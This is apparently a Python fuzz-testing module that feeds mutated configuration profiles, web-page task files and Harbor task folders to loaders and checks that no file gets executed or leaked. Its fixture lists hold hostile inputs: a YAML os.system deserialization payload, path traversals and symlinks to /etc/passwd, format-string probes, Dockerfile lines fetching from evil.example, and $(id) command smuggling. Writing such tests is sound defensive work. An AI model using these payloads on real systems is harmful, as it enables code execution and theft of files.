"""Files and folders that somebody else wrote: profiles and references to plug-ins, tasks in web pages, Harbor's task folders."""

from __future__ import annotations

import copy
import json
import random
import shutil
import traceback
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path
from typing import Any

import yaml

from benchmarks.doors.inputs import MARKS, PATHS, changed
from benchmarks.doors.player import Player
from benchmarks.doors.requests import SECRET
from sandbox.adapters.harbor_source import harbor_source
from sandbox.adapters.web_page_file import source_of_file
from sandbox.tasks.registry import SOURCES
from sandbox.tasks.task_source import TaskSource
from warehouse.core.errors import FlywheelError

REFERENCES = (
    *PATHS,
    "os:system",
    "builtins:eval",
    "a.py:b:c",
    ":",
    "x:",
    ":y",
    "a" * 5000 + ":b",
    "mine.py:SOURCE",
    "subprocess:Popen",
    "json:loads",
    "\0:x",
    "..:x",
    "mine.py:__builtins__",
)
ALIASES = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{c}: &{c} [{','.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)
TEXTS = (
    ALIASES,
    "[" * 5000,
    "a: *b",
    "\t",
    "a: &a [*a]",
    "? [a]\n: b",
    "a: !!binary x",
    "a: 2001-13-45",
    "a: " + "9" * 5000,
    "%YAML 9.9\n---\na",
    "a: b\n---\nc: d",
    "\ufeffa: b",
)


def written(dice: random.Random, value: Any, folder: Path) -> bytes | None:
    """A file of YAML or JSON, or in one of ten cases a text that takes much of a reader; None for what neither can say."""
    try:
        text = yaml.safe_dump(value) if dice.random() < 0.5 else json.dumps(value)
    except (yaml.YAMLError, ValueError, RecursionError):
        return None
    if dice.random() < 0.1:
        made = f"!!python/object/apply:os.system ['touch {folder / 'executed'}']"
        text = dice.choice((*TEXTS, made, text[: dice.randrange(len(text) + 1)]))
    return text.encode("utf-8", "surrogatepass")


def refused(call: Callable[[], object]) -> str:
    """Raises what is none of our errors."""
    try:
        call()
    except FlywheelError as error:
        if not str(error).strip():
            raise ValueError("it is refused without a word") from error
        return "refused"
    return "answered"


@asynccontextmanager
async def played(folder: Path, name: str, play: Callable[[random.Random, Path], str]) -> AsyncIterator[Player]:
    """`play(dice, folder)`: no file of its own making may be executed, and no exception but ours be raised."""
    place = folder / "files"
    (folder / "outside.txt").write_text(SECRET)

    async def case(number: int) -> str:
        place.mkdir(exist_ok=True)
        try:
            what = play(random.Random(f"{name} {number}"), place)
        except Exception:
            raise AssertionError(f"{name} {number}: {traceback.format_exc()[-3000:]}") from None
        if (place / "executed").exists():
            raise AssertionError(f"{name} {number}: what a file says was executed")
        return what

    yield Player(case)


PROFILE: dict[str, Any] = {
    "extends": "smoke",
    "name": "mine",
    "tasks": {"lists": ["miniwob:smoke"], "domains": ["pointing"]},
    "plugins": {"task_sources": {"mine": "mine.py:SOURCE"}},
    "rl": {"rounds": 2, "learning_rate": 1e-4},
    "evaluation": {"eval_per_task": 2},
    "policy": {"source": "checkpoint", "model": "my-model"},
    "sandbox": {"servers": ["http://127.0.0.1:8421"], "num_sessions": 2},
    "schedule": {"cron": "0 2 * * *", "set": {"rl.rounds": 8}},
}


def play_profile(dice: random.Random, folder: Path) -> str:
    """A profile, changed; or references to plug-ins."""
    from pipelines import profiles

    if dice.random() < 0.25:
        (folder / "mine.py").write_text("SOURCE = 7\n")
        return refused(lambda: SOURCES.use([dice.choice(REFERENCES) for _ in range(dice.randint(1, 3))], folder))
    profile = copy.deepcopy(PROFILE)
    if dice.random() < 0.5:
        del profile["plugins"]
    data = written(dice, changed(dice, profile, least=1), folder)
    if data is None:
        return "not sent"
    if dice.random() < 0.02:
        data = dice.choice((b"extends: mine.yaml", b"extends: ../../../etc/passwd", b"extends: /dev/stdin", b"extends: [smoke]"))
    (folder / "mine.yaml").write_bytes(data)
    return refused(lambda: profiles.load(str(folder / "mine.yaml")))


FUNCTIONS = """
def is_done(page):
    return True

def empty(start):
    return None

number = 7
"""
PAGES: dict[str, Any] = {
    "name": "shop",
    "edition": "2",
    "tasks": {
        "add": {
            "url": "http://localhost:8000/{text}",
            "instruction": "Add the note {text}, {count} times.",
            "facts": {"text": ["tea", "milk", "a b"], "count": [1, 2, 3]},
            "verifier": "checks.py:is_done",
            "reset": "checks.py:empty",
            "database": "notes.sqlite",
            "hosts": ["cdn.example.org"],
            "size_px": [640, 480],
            "max_steps": 10,
        }
    },
}
INSTRUCTIONS = (
    *MARKS,
    "{text.__class__.__mro__}",
    "{text:>99999999999999999999}",
    "{text:>400000000}",
    "{text!r:*^300000000}",
    "{0}",
    "{",
    "{}",
    "{count:{count}}",
    "{text[0]}",
)
ADDRESSES = (
    "file:///etc/passwd",
    "http://user:pass@host/",
    "http://{text}/",
    "http://localhost:99999/",
    "javascript:1",
    "http://[::1",
    "//x",
)


def play_pages(dice: random.Random, folder: Path) -> str:
    """A file of tasks in web pages."""
    (folder / "checks.py").write_text(FUNCTIONS)
    given = copy.deepcopy(PAGES)
    task = given["tasks"]["add"]
    match dice.randrange(6):
        case 0:
            task["instruction"] = dice.choice(INSTRUCTIONS)
        case 1:
            task["url"] = dice.choice((*ADDRESSES, "http://localhost/" + dice.choice(INSTRUCTIONS)))
        case 2:
            task[dice.choice(("verifier", "reset", "oracle", "facts"))] = dice.choice((*REFERENCES, "checks.py:number", "checks.py:none"))
        case _:
            changed(dice, given, least=1)
    data = written(dice, given, folder)
    if data is None:
        return "not sent"
    (folder / "shop.yaml").write_bytes(data)

    def read() -> None:
        source = source_of_file(folder / "shop.yaml")
        for each in source.load_tasks().values():
            _storable(source, each)
            made = source.instance(each, dice.randrange(100)) if source.instance is not None else None
            if made is not None:
                _storable_text(made.instruction + getattr(made, "url", ""))

    return refused(read)


def _storable(source: TaskSource, task: Any) -> None:
    """Tasks and remarks on them can be stored and listed."""
    _storable_text(task.model_dump_json() + (source.description(task) if source.description is not None else ""))


def _storable_text(text: str) -> None:
    """Raises ValueError."""
    if SECRET in text or "root:x:0" in text:
        raise ValueError("it has what lies outside of its folder")
    if len(text.encode()) > 50_000_000:
        raise ValueError(f"a text of {len(text)} characters")


HARBOR: dict[str, str] = {
    "task.toml": 'version = "1.0"\n[metadata]\ndifficulty = "easy"\n[verifier]\ntimeout_sec = 60.0\nenv = {WANTED = "PLUM"}\n'
    '[environment]\nos = "linux"\nworkdir = "/app"\n',
    "instruction.md": "<!-- canary: not for training -->\n\nWrite the word of /data/word.txt in capitals into /app/out/word.txt.\n",
    "environment/Dockerfile": "# as ever\nFROM ubuntu:24.04\nENV DEBIAN_FRONTEND=noninteractive\nWORKDIR /app\nCOPY words/ /data/\n"
    'COPY --chmod=755 shout.sh .\nRUN mkdir out && touch begun\nCMD ["bash"]\n',
    "environment/words/word.txt": "plum\n",
    "environment/shout.sh": "#!/bin/sh\ntr a-z A-Z\n",
    "solution/solve.sh": "#!/bin/bash\n./shout.sh < /data/word.txt > out/word.txt\n",
    "tests/test.sh": "#!/bin/bash\necho 1.0 > /logs/verifier/reward.txt\n",
}
TOML = (
    "timeout_sec = nan",
    "timeout_sec = -1",
    "timeout_sec = inf",
    "timeout_sec = 1e999",
    'timeout_sec = "x"',
    "env = 1",
    "env = [[1]]",
    'env = {"A=B" = "x"}',
    'env = {"" = "x"}',
    'env = {LD_PRELOAD = "/x.so", PATH = "."}',
    'env = {A = "a\\u0000b"}',
    'env = {A = "${HOME}"}',
    "[environment]\nworkdir = 7",
    '[environment]\nworkdir = "../../etc"',
    '[environment]\nworkdir = "/"',
    '[environment]\nworkdir = "/app/../etc"',
    '[environment]\nworkdir = "/a\\u0000b"',
    "[environment]\nos = [1]",
    "environment = 1",
    "verifier = []",
    "a = " + "[" * 3000,
    "a" + ".a" * 2000 + " = 1",
    "x = 2001-13-45",
    "x = " + "9" * 5000,
)
DOCKER = (
    "FROM scratch",
    "FROM debian AS x",
    "FROM --platform=linux/arm64 debian",
    "COPY ../../outside.txt /app/",
    "COPY ../outside.txt .",
    "COPY /etc/passwd .",
    "COPY link.txt .",
    "COPY linked/ /data/",
    "COPY **/* .",
    "COPY * /app/",
    "COPY [ .",
    'COPY ["words/word.txt", 7]',
    "COPY words/ /etc/",
    "COPY words/ /app/../../etc/",
    "COPY words/ $HOME",
    "COPY --chmod=999 shout.sh .",
    "COPY --chmod=7777777777777 shout.sh .",
    "COPY --chmod=-1 shout.sh .",
    "COPY --from=other /x /y",
    "COPY shout.sh",
    "COPY",
    "ADD http://evil.example/x .",
    "ADD <<EOF /x",
    "RUN curl http://evil.example",
    "RUN --mount=type=bind x",
    "RUN apt-get install -y $(id)",
    "RUN apt-get install -y nosuchpackage-x 'unclosed",
    "RUN apt-get install --option=Dpkg::Pre-Invoke::=touch",
    "RUN 'unclosed && x",
    "RUN <<EOF",
    'RUN ["a", 1]',
    "ENV A",
    'ENV A="unclosed',
    "ENV LD_PRELOAD=/x",
    "WORKDIR ..",
    "WORKDIR /etc",
    "WORKDIR a/../../..",
    "WORKDIR \x00",
    "VOLUME /x",
    "HEALTHCHECK CMD x",
    "USER root",
    "# syntax=evil/x",
    "EXPOSE \\",
    "N\u00d6 x",
    "RUN " + "x && " * 5000 + "y",
    "COPY " + "a " * 5000 + "b/",
    "COPY " + "a" * 5000 + " b",
    "WORKDIR /" + "a/" * 3000,
)


EXTRA = ("environment/docker-compose.yaml", "environment/.dockerignore", "solution/more.sh", "environment/" + "n" * 200, "tests/ /x")


def play_harbor(dice: random.Random, folder: Path) -> str:
    """A folder of a Harbor task, read up to what an episode begins with."""
    place = folder / "shout"
    shutil.rmtree(place, ignore_errors=True)
    files = dict(HARBOR)
    for _ in range(dice.randint(1, 3)):
        _spoil(dice, files)
    for name, text in files.items():
        path = place / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
    environment = place / "environment"
    environment.mkdir(parents=True, exist_ok=True)
    if dice.random() < 0.5:
        (environment / "link.txt").symlink_to(folder.parent / "outside.txt")
        (environment / "linked").symlink_to(dice.choice((folder.parent, environment, Path("/etc"))))
    if dice.random() < 0.1:
        target = place / dice.choice([*HARBOR])
        target.unlink(missing_ok=True)
        target.parent.mkdir(parents=True, exist_ok=True)
        target.symlink_to(dice.choice((folder.parent / "outside.txt", Path("/dev/null"), target, Path("/etc/passwd"))))

    def read() -> None:
        source = harbor_source("bench", place)
        for task in source.load_tasks().values():
            _storable(source, task)
            if source.facts is not None:
                _storable_text(source.facts(task, 0).instruction)
            made: Any = source.instance(task, 0) if source.instance is not None else None
            texts = [made.instruction, *made.files, *made.folders, *(data.decode("latin-1") for data in made.files.values())]
            _storable_text("\n".join([*texts, *(str(step) for step in made.steps)]))
            if wrong := [name for name in (*made.files, *made.folders) if name.startswith("/") or ".." in name.split("/")]:
                raise ValueError(f"{wrong} is outside of the task's folder")

    return refused(read)


def _spoil(dice: random.Random, files: dict[str, str]) -> None:
    """One thing wrong with a task's files."""
    name = dice.choice([*files] or ["x"])
    match dice.randrange(8):
        case 0 | 1 | 2:
            lines = files.get("environment/Dockerfile", "FROM debian\n").splitlines()
            lines.insert(dice.randrange(len(lines) + 1), dice.choice(DOCKER))
            files["environment/Dockerfile"] = "\n".join(lines)
        case 3 | 4:
            lines = files.get("task.toml", "").splitlines()
            wrong = dice.choice(TOML)
            lines = [line for line in lines if line.split(" ")[0] != wrong.split(" ")[0]]
            lines.insert(dice.randrange(len(lines) + 1), wrong)
            files["task.toml"] = "\n".join(lines)
        case 5:
            files.pop(name, None)
        case 6:
            text = files.get(name, "")
            at = dice.randrange(len(text) + 1)
            files[name] = text[:at] + dice.choice(("\0", "\ud800", "\x1b[2J", "[" * 5000, '"', "\\", "\r\n", "=", *MARKS)) + text[at:]
        case 7:
            files[dice.choice(EXTRA)] = dice.choice(("*", "services: {}", "x" * 100_000))


FILES: dict[str, Callable[[Path], Any]] = {
    "profiles and plug-ins": partial(played, name="profiles and plug-ins", play=play_profile),
    "files of web pages": partial(played, name="files of web pages", play=play_pages),
    "harbor folders": partial(played, name="harbor folders", play=play_harbor),
}
